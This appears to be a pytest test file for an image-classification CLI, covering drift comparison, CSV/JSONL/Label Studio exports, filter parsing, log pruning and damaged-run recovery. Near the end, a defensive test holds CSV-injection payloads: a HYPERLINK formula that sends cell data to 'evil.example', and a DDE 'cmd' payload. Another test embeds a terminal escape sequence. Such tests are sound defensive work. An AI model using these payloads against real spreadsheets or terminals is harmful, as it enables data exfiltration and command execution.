"""Nights compared, runs listed as JSON, review exports (CSV, JSON Lines, Label Studio tasks), on
runs committed through the sink's own commit (no Ray needed: the rows are made here)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from imgclf_ray.cli import main
from imgclf_ray.io import sink
from imgclf_ray.io.schema import OUTPUT_SCHEMA, run_schema


def commit_run(out: Path, run_id: str, rows: list[dict], uri_prefix: str = "file:///data/archive",
               **facts) -> None:
    """Commit ``rows`` (label, score, optional error / flags) as run ``run_id`` under ``out``."""
    now = datetime.now(timezone.utc)
    full = []
    for i, r in enumerate(rows):
        error = r.get("error")
        full.append({"image_id": f"{run_id}-{i}", "uri": f"{uri_prefix}/img{i:03d}.png", "frame": 0,
                     "status": "error" if error else "ok", "error": error,
                     "label": None if error else r["label"], "score": None if error else r["score"],
                     "topk_labels": None if error else [r["label"]], "topk_scores": None if error else [r["score"]],
                     "run_id": run_id, "model_id": "sha256:abc", "processed_at": now,
                     "is_label_issue": r.get("issue")})
    table = pa.Table.from_pylist(full, schema=run_schema(run_id, "sha256:abc", ["cat", "dog"]))
    staging = sink.Staging.new(str(out), run_id)
    Path(staging.uri).mkdir(parents=True, exist_ok=True)
    pq.write_table(table, Path(staging.uri) / sink.staged_filename("u", 0))
    counts = {"ok": sum(r.get("error") is None for r in rows)}
    counts["error"] = len(rows) - counts["ok"]
    by_label: dict[str, int] = {}
    for r in rows:
        if not r.get("error"):
            by_label[r["label"]] = by_label.get(r["label"], 0) + 1
    sink.commit(staging, {"job": "t", "by_status": counts, "labels": ["cat", "dog"], **facts},
                extra_files={sink.SUMMARY_FILE: json.dumps({"by_label": by_label}).encode()})


@pytest.fixture
def nights(tmp_path):
    """Night A: 80 cat / 20 dog, confident; night B: 50 / 50, less confident, 2 new-cause errors."""
    out = tmp_path / "out"
    commit_run(out, "night-a", [{"label": "cat", "score": 0.95}] * 80 + [{"label": "dog", "score": 0.9}] * 20
               + [{"error": "decode: cannot identify image file (OSError)"}])
    commit_run(out, "night-b", [{"label": "cat", "score": 0.7}] * 50
               + [{"label": "dog", "score": 0.6, "issue": True}] * 50
               + [{"error": "read: file vanished after listing (FileNotFoundError)"}] * 2)
    return out


def test_compare_shows_the_label_shift(nights):
    result = CliRunner().invoke(main, ["compare", "night-a", "night-b", "--sink", str(nights), "--json"])
    assert result.exit_code == 0, result.output
    c = json.loads(result.output)
    by = {row["label"]: row for row in c["labels"]}
    assert (by["cat"]["count_a"], by["cat"]["count_b"], by["dog"]["share_a"], by["dog"]["share_b"]) == (80, 50, 0.2, 0.5)
    assert by["dog"]["psi"] > 0.25 and by["dog"]["chi2_p"] < 0.001 and c["psi_total"] > 0.25
    assert c["confidence"]["mean_b"] < c["confidence"]["mean_a"] and c["confidence"]["ks_p"] < 0.001
    assert list(c["new_error_causes"]) == ["read: file vanished after listing"]
    text = CliRunner().invoke(main, ["compare", str(nights / "night-a"), str(nights / "night-b")]).output
    assert "significant drift" in text and "new error causes: read: file vanished after listing (2)" in text


def test_runs_as_json(nights):
    result = CliRunner().invoke(main, ["runs", str(nights), "--json"])
    assert result.exit_code == 0
    assert [r["run_id"] for r in json.loads(result.output)] == ["night-a", "night-b"]


def test_export_the_least_confident_rows_as_csv_and_jsonl(nights, tmp_path):
    out = tmp_path / "review.csv"
    result = CliRunner().invoke(main, ["export", str(nights), "--run", "night-b", "--to", "csv",
                                       "--where", "status == 'ok'", "--sort", "score", "--limit", "5", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(rows) == 5 and {r["label"] for r in rows} == {"dog"} and rows[0]["score"].startswith("0.6")
    result = CliRunner().invoke(main, ["export", str(nights), "--to", "jsonl", "--where", "is_label_issue and score < 0.65"])
    lines = [json.loads(line) for line in result.output.splitlines()]
    assert len(lines) == 50 and all(r["is_label_issue"] and r["run_id"] == "night-b" for r in lines)


def test_export_refuses_a_bad_filter_in_one_line(nights):
    for where, expected in (("colour == 'red'", "no column 'colour'"), ("score <", "cannot read"),
                            ("label", "not a true/false column"),
                            ("(" * 3000 + "is_label_issue" + ")" * 3000, "nested more than 100 deep"),
                            ("not " * 3000 + "is_label_issue", "nested more than 100 deep")):  # (RecursionError)
        result = CliRunner().invoke(main, ["export", str(nights), "--to", "csv", "--where", where])
        assert result.exit_code != 0 and result.output.startswith("error: --where") and expected in result.output
        assert len(result.output.strip().splitlines()) == 1


def _valid_label_studio_task(task: dict) -> None:
    """Label Studio's import format for pre-annotated tasks (labelstud.io/guide/predictions): a
    task is {"data": {...}, "predictions": [{"model_version", "score", "result": [{"from_name",
    "to_name", "type", "value": {"choices": [...]}}]}]}."""
    assert set(task) == {"data", "predictions"} and isinstance(task["data"]["image"], str)
    (pred,) = task["predictions"]
    assert isinstance(pred["model_version"], str) and 0 <= pred["score"] <= 1
    (res,) = pred["result"]
    assert res["type"] == "choices" and res["from_name"] == "choice" and res["to_name"] == "image"
    assert isinstance(res["value"]["choices"], list) and all(isinstance(c, str) for c in res["value"]["choices"])


def test_label_studio_tasks(nights, tmp_path):
    result = CliRunner().invoke(main, ["export", str(nights), "--run", "night-a", "--to", "label-studio"])
    assert result.exit_code != 0 and "--document-root is needed for local images" in result.output
    result = CliRunner().invoke(main, ["export", str(nights), "--run", "night-a", "--to", "label-studio",
                                       "--document-root", "/data", "--sort", "score", "--limit", "3"])
    assert result.exit_code == 0, result.output
    tasks = json.loads(result.output)
    assert len(tasks) == 3
    for task in tasks:
        _valid_label_studio_task(task)
    assert tasks[0]["data"]["image"] == "/data/local-files/?d=archive/img080.png"
    assert tasks[0]["predictions"][0]["result"][0]["value"]["choices"] == ["dog"]
    commit_run(tmp_path / "s3out", "s", [{"label": "cat", "score": 0.9}], uri_prefix="s3://bucket/images")
    tasks = json.loads(CliRunner().invoke(main, ["export", str(tmp_path / "s3out"), "--to", "label-studio"]).output)
    assert tasks[0]["data"]["image"] == "s3://bucket/images/img000.png"


def test_a_run_of_output_schema_1_is_still_read(tmp_path):
    """Runs committed before schema 2: run_summary.json without '_', map columns."""
    from imgclf_ray.io.sink import read_run_json
    from imgclf_ray.io.tables import read_columns

    out = tmp_path / "out"
    commit_run(out, "old", [{"label": "cat", "score": 0.9}])
    run = out / "old"
    (run / "_run_summary.json").rename(run / "run_summary.json")
    manifest = json.loads((run / "_manifest.json").read_text())
    manifest.pop("side_files")
    (run / "_manifest.json").write_text(json.dumps(manifest))
    (part,) = run.glob("part-*.parquet")
    t = pq.read_table(part)
    t = t.set_column(t.schema.get_field_index("dicom"), pa.field("dicom", pa.map_(pa.string(), pa.string())),
                     pa.array([[("Modality", "CT")]], pa.map_(pa.string(), pa.string())))
    pq.write_table(t.replace_schema_metadata(None), part)
    assert read_run_json(str(run), sink.SUMMARY_FILE) == {"by_label": {"cat": 1}}
    assert read_columns(sink.run_files(str(run)), lambda n: True).num_rows == 1
    result = CliRunner().invoke(main, ["runs", str(out)])
    assert result.exit_code == 0 and "old" in result.output
    assert OUTPUT_SCHEMA.field("dicom").type == pa.string()


def test_report_has_the_recent_nights(nights, tmp_path):
    out = tmp_path / "report.html"
    result = CliRunner().invoke(main, ["report", str(nights), "--run", "night-b", "-o", str(out)])
    assert result.exit_code == 0, result.output
    page = out.read_text()
    assert '<section id="nights"><h2>Recent nights</h2>' in page
    assert "night-a" in page and "50.0%" in page and "20.0%" in page  # dog's share, night by night


def test_dash_is_standard_output_for_export_and_report(nights, tmp_path, monkeypatch):
    """`-o -` writes to standard output (the help says so), never a file named '-'."""
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["export", str(nights), "--run", "night-a", "--to", "csv", "-o", "-"])
    assert result.exit_code == 0, result.output
    assert len(list(csv.DictReader(io.StringIO(result.output)))) == 101
    result = CliRunner().invoke(main, ["report", str(nights), "--run", "night-a", "-o", "-"])
    assert result.exit_code == 0, result.output
    assert result.output.lstrip().lower().startswith("<!doctype html") and "report written" not in result.output
    assert not (tmp_path / "-").exists()


def test_an_empty_night_is_no_images_never_drift_and_readers_take_the_last_night_with_images(nights):
    commit_run(nights, "night-c", [], nothing_new="all 103 listed images were processed by earlier runs")
    text = CliRunner().invoke(main, ["compare", "night-b", "night-c", "--sink", str(nights)]).output
    assert "night-c: no images (nothing new that night)" in text and "drift" not in text.replace("no drift is", "")
    c = json.loads(CliRunner().invoke(main, ["compare", "night-b", "night-c", "--sink", str(nights), "--json"]).output)
    assert c["psi_total"] is None and c["no_images"] == ["night-c"]
    from imgclf_ray.api import read_run

    assert set(read_run(str(nights))["run_id"].to_pylist()) == {"night-b"}  # the latest night with images
    exported = CliRunner().invoke(main, ["export", str(nights), "--to", "jsonl"]).output.splitlines()
    assert len(exported) == 102 and json.loads(exported[0])["run_id"] == "night-b"
    # The report's recent nights: no images, no error rate ("—", not 0.0 %).
    page = CliRunner().invoke(main, ["report", str(nights), "--run", "night-c", "-o", "-"]).output
    assert "<td>night-c</td><td>0</td><td>—</td>" in page


def test_a_damaged_run_is_listed_as_damaged_and_every_other_run_still_reads(nights, tmp_path):
    (nights / "night-a" / sink.MANIFEST_FILE).unlink()  # _SUCCESS without a manifest
    listed = CliRunner().invoke(main, ["runs", str(nights)])
    assert listed.exit_code == 0, listed.output
    assert "night-b" in listed.output and re.search(r"night-a\s+DAMAGED", listed.output)
    for args in (["export", str(nights), "--to", "csv"], ["report", str(nights), "-o", str(tmp_path / "r.html")],
                 ["compare", "night-b", "night-b", "--sink", str(nights)]):
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 0, (args, result.output)
    missing = CliRunner().invoke(main, ["runs", str(tmp_path / "nowhere")])
    assert missing.exit_code == 1 and missing.output.startswith("error: ") and "no such folder" in missing.output


def test_where_compares_as_the_column_type_with_and_or_not_and_parentheses(nights):
    def ids(where: str, run: str = "night-b") -> int:
        result = CliRunner().invoke(main, ["export", str(nights), "--run", run, "--to", "jsonl", "--where", where])
        assert result.exit_code == 0, result.output
        return len(result.output.splitlines())

    assert ids("status == 'ok' or score < 0.5") == 100
    assert ids("label == 'dog' and not (score > 0.65)") == 50
    assert ids("not is_label_issue and status == 'ok'") == 50
    assert ids("status != 'ok' or (label == 'cat' and score >= 0.7)") == 52
    commit_run(nights, "digits", [{"label": "3", "score": 0.9}] * 4 + [{"label": "8", "score": 0.9}] * 2)
    assert ids("label == 3", "digits") == 4  # a number compared with a text column is its text
    for where, expected in (("status == ok", "quote a text value"), ("score < 'high'", "is not one"),
                            ("is_label_issue", "was not computed in this run"), ("(score < 1", "ends too early"),
                            ("score < 1 or", "ends too early")):
        run = "night-a" if where == "is_label_issue" else "night-b"
        result = CliRunner().invoke(main, ["export", str(nights), "--run", run, "--to", "csv", "--where", where])
        assert result.exit_code == 2 and result.output.startswith("error: --where") and expected in result.output, \
            (where, result.output)
        assert len(result.output.strip().splitlines()) == 1


def test_recent_nights_show_every_label_as_top_labels_and_other(tmp_path):
    out = tmp_path / "out"
    for night, (common, rare) in enumerate([("8", "9"), ("9", "8")]):
        rows = [{"label": common, "score": 0.9}] * 30 + [{"label": rare, "score": 0.9}] * 20
        rows += [{"label": str(d), "score": 0.9} for d in range(8)]  # 0..7 once each
        commit_run(out, f"night-{night}", rows)
    page = CliRunner().invoke(main, ["report", str(out), "-o", "-"]).output
    nights = page[page.index("Recent nights"):]
    header = re.search(r"<tr>(.*?)</tr>", nights, re.S).group(1)
    cells = re.findall(r"<th>(.*?)</th>", header)
    # The two frequent labels first (string order put them last and cut them), the rest as "other".
    assert cells[3:5] == ["8", "9"] or cells[3:5] == ["9", "8"], cells
    assert cells[-1] == "other" and len(cells) == 3 + 8


def test_a_relative_document_root_is_resolved(nights, monkeypatch):
    monkeypatch.chdir("/")  # the rows' images are under /data/archive
    result = CliRunner().invoke(main, ["export", str(nights), "--run", "night-a", "--to", "label-studio",
                                       "--document-root", "data", "--limit", "1"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)[0]["data"]["image"].startswith("/data/local-files/?d=archive/img")


def test_ray_log_files_are_pruned_to_the_last_ten_and_the_last_fifty_failed(tmp_path, monkeypatch):
    import os

    from imgclf_ray.errors import UserError
    from imgclf_ray.runner import ray_setup

    for i in range(14):
        (tmp_path / f"imgclf-ray-{1000 + i}.log").write_text("x")
        os.utime(tmp_path / f"imgclf-ray-{1000 + i}.log", (i, i))
    for i in range(53):
        (tmp_path / f"imgclf-ray-{i}-failed.log").write_text("x")
        os.utime(tmp_path / f"imgclf-ray-{i}-failed.log", (100 + i, 100 + i))
    (tmp_path / "other.log").write_text("x")
    ray_setup._prune_logs(str(tmp_path))
    kept = {p.name for p in tmp_path.iterdir()}
    assert kept == ({"other.log"} | {f"imgclf-ray-{1000 + i}.log" for i in range(4, 14)}
                    | {f"imgclf-ray-{i}-failed.log" for i in range(3, 53)})
    # IMGCLF_LOG_DIR names the folder (made when missing); one it cannot make is one error.
    monkeypatch.setenv("IMGCLF_LOG_DIR", str(tmp_path / "logs" / "imgclf"))
    assert ray_setup.log_folder() == str(tmp_path / "logs" / "imgclf") and (tmp_path / "logs" / "imgclf").is_dir()
    monkeypatch.setenv("IMGCLF_LOG_DIR", str(tmp_path / "other.log" / "sub"))
    with pytest.raises(UserError, match=r"^IMGCLF_LOG_DIR: cannot make the log folder .*other.log/sub \(Not a directory\)$"):
        ray_setup.log_folder()
    monkeypatch.setattr(ray_setup, "current_log", str(tmp_path / "imgclf-ray-1013.log"))
    assert ray_setup.mark_failed() == str(tmp_path / "imgclf-ray-1013-failed.log")
    assert (tmp_path / "imgclf-ray-1013-failed.log").exists()


def test_a_run_s_log_goes_to_imgclf_log_dir_and_is_one_of_the_ten_kept(tmp_path):
    """In a process of its own (its standard error is file descriptor 2, as a CLI command's): the
    log file is made in IMGCLF_LOG_DIR, then the folder pruned, so ten remain with this one."""
    import os
    import subprocess
    import sys

    logs = tmp_path / "logs"
    logs.mkdir()
    for i in range(12):
        (logs / f"imgclf-ray-{1000 + i}.log").write_text("x")
        os.utime(logs / f"imgclf-ray-{1000 + i}.log", (i, i))
    proc = subprocess.run([sys.executable, "-c", "from imgclf_ray.runner.ray_setup import output_to_file; "
                           "print(output_to_file())"], env={**os.environ, "IMGCLF_LOG_DIR": str(logs)},
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    mine = Path(proc.stdout.strip())
    assert mine.parent == logs and mine.is_file()
    assert sorted(p.name for p in logs.iterdir()) == sorted([mine.name] + [f"imgclf-ray-{1000 + i}.log" for i in range(3, 12)])


def test_the_package_lists_its_api_and_a_training_spec_is_not_run(tmp_path):
    import subprocess
    import sys

    names = subprocess.run([sys.executable, "-c", "import imgclf_ray, sys; print(dir(imgclf_ray)); "
                            "print('torch' in sys.modules, 'ray' in sys.modules)"], capture_output=True, text=True)
    assert "'read_run'" in names.stdout and "'run'" in names.stdout and "False False" in names.stdout
    spec = Path(__file__).resolve().parents[1] / "jobs" / "train" / "digits-svm-hog.yaml"
    result = CliRunner().invoke(main, ["run", str(spec)])
    assert result.exit_code == 2 and "is a training spec" in result.output and "imgclf train" in result.output


def test_a_damaged_run_is_rewritten_by_running_its_run_id_again(tmp_path, tiny_model):
    """The damaged run's message says to rerun its run id: that must work (it looped: the rerun
    read the corrupt manifest to know what to replace), --date included."""
    from imgclf_ray.api import run
    from tests.corpus import digit_images, png_bytes

    archive = tmp_path / "archive"
    archive.mkdir()
    for name, img in digit_images(3):
        (archive / f"{name}.png").write_bytes(png_bytes(img))
    job = {"name": "n", "source": {"uri": str(archive)}, "model": {"uri": tiny_model},
           "sink": {"uri": str(tmp_path / "out")}, "run": {"executor": "local"}}
    run(job, run_id="n-2026-12-01")
    folder = tmp_path / "out" / "n-2026-12-01"
    old = sorted(p.name for p in folder.glob("*.parquet"))
    (folder / sink.MANIFEST_FILE).write_text("{not json")
    import yaml

    (tmp_path / "job.yaml").write_text(yaml.safe_dump(job))
    again = CliRunner().invoke(main, ["run", str(tmp_path / "job.yaml"), "--date", "2026-12-01", "-q"])
    assert again.exit_code == 0, again.output
    new = sorted(p.name for p in folder.glob("*.parquet"))
    assert len(new) == len(old) and not set(new) & set(old)  # the damaged run's files replaced, not kept
    assert "DAMAGED" not in CliRunner().invoke(main, ["runs", str(tmp_path / "out")]).output


# Text a spreadsheet takes for a formula (CWE-1236): class names come from an archive's folder names.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "=1"]
NUMBERS = ["-1", "+2.5", "-0.5e3"]  # labels that are numbers stay numbers
QUOTED = ["'=1", "''-x"]  # text that starts with the quote itself comes back with it


def _formula_like(text: str) -> bool:
    """The reference (OWASP's rule, written here): a cell a spreadsheet would evaluate."""
    if not text or text[0] not in "=+-@\t\r\n":
        return False
    try:
        float(text)
        return False
    except ValueError:
        return True


def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted_and_come_back_as_they_were(tmp_path):
    from imgclf_ray.review.ingest import parse_csv
    from imgclf_ray.review.select import batch_csv

    from imgclf_ray.io.labels import _read_table
    from imgclf_ray.spec import StorageSpec

    out = tmp_path / "out"
    names = FORMULAS + NUMBERS + QUOTED
    commit_run(out, "n", [{"label": name, "score": 0.5} for name in names], uri_prefix="file:///data/=x")
    for args in (["export", str(out), "--to", "csv", "-o", "-"], ["labels", str(out), "--to", "csv"]):
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 0, result.output
        cells = [c for row in csv.reader(io.StringIO(result.output)) for c in row]
        assert not [c for c in cells if _formula_like(c)], args
        assert {c for c in cells if c in NUMBERS} == set(NUMBERS)  # not quoted
        assert {c[1:] for c in cells if c.startswith("'")} >= set(FORMULAS)
    # `imgclf labels --to csv` read back as a labels table (source.labels.table, --exclude-labels)
    (tmp_path / "labels.csv").write_text(result.output)
    back = _read_table(str(tmp_path / "labels.csv"), StorageSpec(), ("uri", "label"), "source.labels.table")
    assert sorted(back.column("label").to_pylist()) == sorted(names)
    assert all(u.startswith("file:///data/=x/") for u in back.column("uri").to_pylist())
    # The review batch for a reviewer without Label Studio: the reviewer copies the model's label
    # cell into `label` as the spreadsheet shows it; ingest reads the label it was.
    rows = pa.table({"image_id": [f"{i:032x}" for i in range(len(names))], "uri": [f"/a/{n}.png" for n in names],
                     "etag": names, "model_label": names, "score": [0.5] * len(names), "priority": [1.0] * len(names)})
    written = list(csv.DictReader(io.StringIO(batch_csv(rows, "b1").decode())))
    assert not [c for row in written for c in row.values() if _formula_like(c)]
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=list(written[0]))
    writer.writeheader()
    writer.writerows({**row, "label": row["model_label"]} for row in written)
    parsed = parse_csv(text.getvalue())
    # (a "|" separates the labels of a multilabel answer in a review CSV)
    assert [a.labels for a in parsed.answers] == [[v.strip() for v in n.split("|")] for n in names]
    # As a spreadsheet in a locale whose separator is ";" saves it, two rows left without a label.
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=list(written[0]), delimiter=";")
    writer.writeheader()
    writer.writerows({**row, "label": row["model_label"] if i >= 2 else "", "model_score": "0,93"}
                     for i, row in enumerate(written))
    for saved in (text.getvalue(), "sep=;\r\n" + text.getvalue()):  # (Excel's line naming the separator)
        parsed = parse_csv(saved)
        assert [a.labels[0] for a in parsed.answers] == [n.split("|")[0].strip() for n in names[2:]]
        assert parsed.blank == 2 and {a.model_score for a in parsed.answers} == {0.93}


def test_a_csv_export_to_a_terminal_shows_a_control_character_in_a_name_as_a_question_mark(tmp_path):
    """`imgclf export --to csv` writes to standard output; a file name holding a terminal escape
    (ESC [2J clears the screen) or a carriage return reached the terminal as it was. On a terminal
    (a pty here) they are '?', as ls shows them; into a pipe or a file the bytes stay exact."""
    import os
    import pty
    import subprocess
    import sys

    commit_run(tmp_path / "out", "r1", [{"label": "cat", "score": 0.9}], uri_prefix="file:///data/a\x1b[2Jb\rc")
    command = [str(Path(sys.executable).with_name("imgclf")), "export", str(tmp_path / "out"), "--to", "csv"]
    main_fd, child_fd = pty.openpty()
    proc = subprocess.Popen(command, stdout=child_fd, stderr=subprocess.DEVNULL)
    os.close(child_fd)
    shown = b""
    while True:
        try:
            chunk = os.read(main_fd, 65536)
        except OSError:  # the child's end closed
            break
        if not chunk:
            break
        shown += chunk
    os.close(main_fd)
    assert proc.wait(timeout=60) == 0
    assert b"file:///data/a?[2Jb?c/img000.png" in shown and b"\x1b" not in shown, shown
    assert shown.count(b"?") == 2 and shown.count(b"\r\n") == 2, shown  # (each CSV line's CR LF kept)
    piped = subprocess.run(command, capture_output=True, timeout=60)
    assert b"file:///data/a\x1b[2Jb\rc/img000.png" in piped.stdout
